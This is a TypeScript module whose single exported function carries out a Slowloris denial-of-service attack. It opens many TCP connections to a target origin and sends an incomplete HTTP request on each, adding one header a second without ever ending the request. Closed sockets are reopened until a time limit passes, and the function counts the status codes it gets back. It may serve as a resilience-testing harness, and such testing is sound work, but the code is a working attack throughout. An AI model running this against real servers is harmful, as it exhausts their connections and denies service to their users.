import { connect, type Socket } from 'node:net';

/**
 * What became of slow sockets: by the status that they were answered; `none` where they did not get to read it.
 */
export type SlowAnswers = Record<string, number>;

/** How many connections are made at once: as many as wait to be taken by a server without being dropped. */
const connectingMax = 200;
const headerEveryMs = 1_000;

/**
 * Opens connections and says a call's headers on each, one a second and never the last ("slow loris"). Whoever is
 * answered or closed begins anew, until `attackMs` have passed.
 *
 * @param onOpen told how many are open, whenever one more is
 */
export async function attackSlowly(
  origin: string,
  sockets: number,
  attackMs: number,
  onOpen: (open: number) => void,
): Promise<SlowAnswers> {
  const { hostname, port } = new URL(origin);
  const answers: SlowAnswers = {};
  const endMs = performance.now() + attackMs;
  const open = new Set<Socket>();

  async function attack(connecting: { done(): void }): Promise<void> {
    do {
      const socket = connect(Number(port), hostname);
      let heard = '';
      let drip: NodeJS.Timeout | undefined;
      socket.on('data', (chunk: Buffer) => {
        heard += chunk.toString('latin1');
        clearInterval(drip);
      });
      socket.on('error', () => {});
      const closed = new Promise((resolve) => socket.once('close', resolve));
      socket.on('connect', () => {
        connecting.done();
        onOpen(open.add(socket).size);
        socket.write('GET /v1/impression/shoes HTTP/1.1\r\nHost: track.example\r\n');
        drip = setInterval(() => socket.write('X-Slow: 1\r\n'), headerEveryMs);
      });
      await closed;
      clearInterval(drip);
      open.delete(socket);
      const status = /^HTTP\/1\.1 (\d{3})/.exec(heard)?.[1] ?? 'none';
      answers[status] = (answers[status] ?? 0) + 1;
    } while (performance.now() < endMs);
    connecting.done();
  }

  const attacks: Promise<void>[] = [];
  while (attacks.length < sockets) {
    const count = Math.min(connectingMax, sockets - attacks.length);
    await Promise.all(
      Array.from({ length: count }, () => {
        return new Promise<void>((done) => attacks.push(attack({ done })));
      }),
    );
  }
  await Promise.all(attacks);
  return answers;
}
